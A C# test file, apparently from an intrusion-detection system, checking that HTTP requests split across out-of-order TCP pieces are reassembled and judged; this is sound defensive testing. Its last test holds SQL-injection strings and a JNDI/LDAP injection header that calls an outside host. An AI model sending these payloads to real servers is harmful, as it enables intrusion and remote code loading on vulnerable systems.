using System.Text;
using NetHawk.Capture.Peek;
using NetHawk.Core.Detectors;
using NetHawk.Core.Detectors.Exploit;
using NetHawk.Core.Detectors.WebAttack;
using NetHawk.Core.Flows;
using NetHawk.Core.Packets;
using NetHawk.Core.Peek;
using NetHawk.Core.Verdicts;
using NetHawk.Tests.Detectors;
using NetHawk.Tests.Flows;

namespace NetHawk.Tests.Capture;

/// <summary>Whoever cuts a request small is read all the same, whatever order the pieces come in.</summary>
public sealed class RequestPiecesTests
{
    private const string Posted = "POST /signin HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 21\r\n\r\nuser=bob&pass=secret1";

    [Theory]
    [InlineData(1, "forward")]
    [InlineData(5, "forward")]
    [InlineData(16, "forward")]
    [InlineData(64, "forward")]
    [InlineData(16, "pairs")]
    [InlineData(7, "pairs")]
    [InlineData(16, "backward")]
    [InlineData(16, "twice")]
    public void A_request_in_pieces_is_put_together(int size, string order)
    {
        var script = new PacketScript(peek: new PayloadPeek());
        script.Connect(40_000, 8081);
        foreach ((int at, string piece) in Ordered(Cut(Posted, size), order)) script.Say(40_000, 8081, 1001 + (uint)at, Encoding.ASCII.GetBytes(piece));
        script.Tracker.Complete();
        var requests = script.Flows.Select(f => f.Peek).Where(p => p is HttpRequest or HttpWhole).ToList();

        // Where its beginning comes last there is nothing to be told before.
        var whole = requests[^1] as HttpRequest ?? ((HttpWhole)requests[^1]!).Request;
        Assert.Equal(("POST", "/signin", "shop.example", "user=bob&pass=secret1"), (whole.Method, whole.Target, whole.Host, whole.BodyStart));
        Assert.Equal(order == "backward" ? 1 : 2, requests.Count);
    }

    /// <summary>Nobody may push a request out of the buffers without that being seen.</summary>
    [Theory]
    [InlineData(511, 0)]
    [InlineData(512, 1)]
    public void A_request_that_hundreds_of_others_push_out_is_counted(int others, int lost)
    {
        var peek = new PayloadPeek();
        byte[] first = Encoding.ASCII.GetBytes(Posted[..20]), rest = Encoding.ASCII.GetBytes(Posted[20..]);
        var state = new PeekState();
        peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 80, first, first.Length, 1001, 1001);
        for (int i = 0; i < others; i++)
        {
            var other = new PeekState();
            peek.Look(ref other, false, IpProtocol.Tcp, 40_001, 80, first, first.Length, 1001, 1001);
        }

        peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 80, rest, rest.Length, 1021, 1001);
        Assert.Equal(lost, peek.Skipped);
    }

    [Fact]
    public void What_comes_in_one_piece_is_no_whole()
    {
        var wire = new Wire();
        Assert.IsType<HttpRequest>(wire.Say(Posted));
        Assert.IsType<HttpRequest>(wire.Say("GET / HTTP/1.1\r\nHost: a\r\n\r\n"));
        Assert.IsType<HttpRequest>(wire.Say("POST / HTTP/1.1\r\nContent-Length: 5\r\n\r\n"));
        Assert.Equal("a=b&c", Assert.IsType<HttpBody>(wire.Say("a=b&c")).Start);
        Assert.Null(wire.Say("more"));
    }

    [Fact]
    public void A_body_that_follows_in_pieces_is_read_whole()
    {
        var wire = new Wire();
        wire.Say("POST / HTTP/1.1\r\nContent-Length: 12\r\n\r\n");
        Assert.IsType<HttpBody>(wire.Say("id=1"));
        Assert.Null(wire.Say(" unio"));
        Assert.Equal("id=1 union s", Assert.IsType<HttpWhole>(wire.Say("n s")).Request.BodyStart);
    }

    /// <summary>Who looks at headers gets each request once, as soon as its header is whole.</summary>
    [Fact]
    public void Each_header_is_told_once()
    {
        var wire = new Wire();
        Assert.Null(HttpRequest.WithHeader(wire.Say("GET /a HTTP/1.1\r\nHost: a\r\nUser-Ag")));
        Assert.Equal("b", HttpRequest.WithHeader(wire.Say("ent: b\r\n\r\n"))?.UserAgent);
        Assert.Equal("POST", HttpRequest.WithHeader(wire.Say("POST /a HTTP/1.1\r\nContent-Length: 6\r\n\r\nabc"))?.Method);
        Assert.Null(HttpRequest.WithHeader(Assert.IsType<HttpWhole>(wire.Say("def"))));
        Assert.NotNull(HttpRequest.WithHeader(wire.Say("GET /cut HTTP/1.1\r\nHo", onWire: 300)));
    }

    /// <summary>The header's end may be there before what stands in front of it.</summary>
    [Fact]
    public void A_piece_that_fills_a_gap_ends_the_header_that_came_before_it()
    {
        var peek = new PayloadPeek();
        var state = new PeekState();
        PeekInfo? Said(uint at, string text) => peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 80, Encoding.ASCII.GetBytes(text), 0, at, at);
        Said(1, "GET /a HTTP/1.1\r\n");
        Said(18, "Host: ");
        Assert.Null(Said(26, "c\r\n\r\n"));
        Assert.Equal("abc", Assert.IsType<HttpWhole>(Said(24, "ab")).Request.Host);
    }

    [Fact]
    public void Chunks_end_with_an_empty_one()
    {
        var wire = new Wire();
        wire.Say("POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n4\r\n");
        Assert.Null(wire.Say("abcd\r\n"));
        Assert.True(Assert.IsType<HttpWhole>(wire.Say("0\r\n\r\n")).Request.IsChunked);
    }

    /// <summary>Behind a gap a new request is one.</summary>
    [Fact]
    public void A_request_whose_rest_was_lost_does_not_swallow_the_next()
    {
        var wire = new Wire();
        Assert.False(Assert.IsType<HttpRequest>(wire.Say("GET /a HTTP/1.1\r\nHo")).HeadersComplete);
        wire.Lose(20);
        Assert.Equal("/b", Assert.IsType<HttpRequest>(wire.Say("GET /b HTTP/1.1\r\nHost: a\r\n\r\n")).Target);
    }

    [Theory]
    [InlineData("HTTP/1.1 413 Content Too Large\r\n\r\n", false)]
    [InlineData("HTTP/1.1 100 Continue\r\n\r\n", true)]
    public void An_answer_ends_the_request_and_one_that_asks_for_the_rest_does_not(string answer, bool whole)
    {
        var wire = new Wire();
        wire.Say("POST / HTTP/1.1\r\nContent-Length: 8\r\n\r\nabcd");
        wire.Answer(answer);
        Assert.Equal(whole, wire.Say("efgh") is HttpWhole);
    }

    /// <summary>Each is read, the first alone is counted; a body's own length says where the next begins.</summary>
    [Fact]
    public void Requests_behind_another_in_one_packet_are_read()
    {
        var script = new PacketScript(peek: new PayloadPeek());
        script.Connect(40_000, 8081);
        script.Say(40_000, 8081, 1001, "GET / HTTP/1.1\r\nHost: a\r\n\r\nPOST /b HTTP/1.1\r\nContent-Length: 3\r\n\r\na=bGET /c?id=1 HTTP/1.1\r\n\r\n"u8);
        script.Tracker.Complete();
        var read = script.Flows.Select(f => f.Peek).OfType<PeekInfo>().ToList();
        Assert.Equal("/", Assert.IsType<HttpRequest>(read[0]).Target);
        Assert.Equal(["/b", "/c?id=1"], read.Skip(1).Select(p => Assert.IsType<HttpWhole>(p).Request.Target));
    }

    [Fact]
    public void A_packet_of_a_thousand_requests_is_read_in_part()
    {
        var wire = new Wire();
        int read = 0;
        for (var info = wire.Say(string.Concat(Enumerable.Repeat("GET /a HTTP/1.1\r\n\r\n", 1_000))); info is not null; info = info.Then) read++;
        Assert.Equal(17, read);
    }

    /// <summary>What the capture left out never comes: nothing is waited for.</summary>
    [Fact]
    public void A_request_that_the_capture_cut_is_told_as_far_as_it_goes()
    {
        var wire = new Wire();
        Assert.IsType<HttpRequest>(wire.Say("GET /a HTTP/1.1\r\nHo", onWire: 300));
        Assert.Null(wire.Say("more"));
    }

    [Fact]
    public void A_header_that_goes_on_for_ever_is_given_up()
    {
        var wire = new Wire();
        wire.Say("GET /a HTTP/1.1\r\n");
        int wholes = 0;
        for (int i = 0; i < 2_000; i++) wholes += wire.Say("X-a: bcdefghi\r\n") is HttpWhole ? 1 : 0;
        Assert.Equal(1, wholes);
    }

    /// <summary>A thousand requests that wait do not hide the one that goes on.</summary>
    [Fact]
    public void The_oldest_gives_way()
    {
        var peek = new PayloadPeek();
        PeekInfo? Said(ref PeekState state, uint at, string text) => peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 80, Encoding.ASCII.GetBytes(text), 0, at);
        var first = new PeekState();
        Said(ref first, 0, "GET /first HTTP/1.1\r\n");
        for (int i = 0; i < 1_000; i++)
        {
            var waiting = new PeekState();
            Said(ref waiting, 0, "GET /wait HTTP/1.1\r\n");
        }

        Assert.Null(Said(ref first, 21, "\r\n"));
        var last = new PeekState();
        Said(ref last, 0, "GET /last HTTP/1.1\r\n");
        Assert.Equal("/last", Assert.IsType<HttpWhole>(Said(ref last, 20, "\r\n")).Request.Target);
    }

    [Theory]
    [InlineData("GET /item?id=1%27%20union%20select%20user()--%20- HTTP/1.1\r\nHost: a\r\n\r\n", ThreatClass.WebAttack)]
    [InlineData("POST /item HTTP/1.1\r\nHost: a\r\nContent-Length: 34\r\n\r\nid=1' union select user(),version()", ThreatClass.WebAttack)]
    [InlineData("GET / HTTP/1.1\r\nHost: a\r\nX-Api: ${jndi:ldap://198.51.100.9/a}\r\n\r\n", ThreatClass.Exploit)]
    public void What_is_put_together_is_judged(string request, ThreatClass expected)
    {
        IDetector detector = expected == ThreatClass.Exploit ? new ExploitDetector(Events.Context()) : new WebAttackDetector(Events.Context());
        var run = new Events(detector);
        var wire = new Wire();
        var flow = run.Flow("203.0.113.7", "10.0.0.5", 80);
        foreach ((_, string piece) in Cut(request, 12))
        {
            flow.Peek = wire.Say(piece);
            if (flow.Peek is not null) run.Send(flow, FlowEventKind.Application);
        }

        Assert.Contains(run.Found, e => e.Class == expected);
    }

    private static List<(int At, string Piece)> Cut(string text, int size) =>
        [.. Enumerable.Range(0, (text.Length + size - 1) / size).Select(i => (i * size, text.Substring(i * size, Math.Min(size, text.Length - i * size))))];

    private static IEnumerable<(int At, string Piece)> Ordered(List<(int At, string Piece)> pieces, string order) => order switch
    {
        "pairs" => pieces.Chunk(2).SelectMany(p => p.Reverse()),
        "backward" => Enumerable.Reverse(pieces),
        "twice" => pieces.SelectMany(p => new[] { p, p }),
        _ => pieces,
    };

    /// <summary>One connection to port 80, as its payloads come.</summary>
    private sealed class Wire
    {
        private readonly PayloadPeek _peek = new();
        private PeekState _state;
        private uint _next = 1;

        public PeekInfo? Say(string text, int onWire = 0)
        {
            uint at = _next;
            _next += (uint)Math.Max(onWire, text.Length);
            return _peek.Look(ref _state, false, IpProtocol.Tcp, 40_000, 80, Encoding.ASCII.GetBytes(text), onWire, at, at == 1 ? 1 : at);
        }

        public void Answer(string text) => _peek.Look(ref _state, true, IpProtocol.Tcp, 40_000, 80, Encoding.ASCII.GetBytes(text));

        public void Lose(uint bytes) => _next += bytes;
    }
}
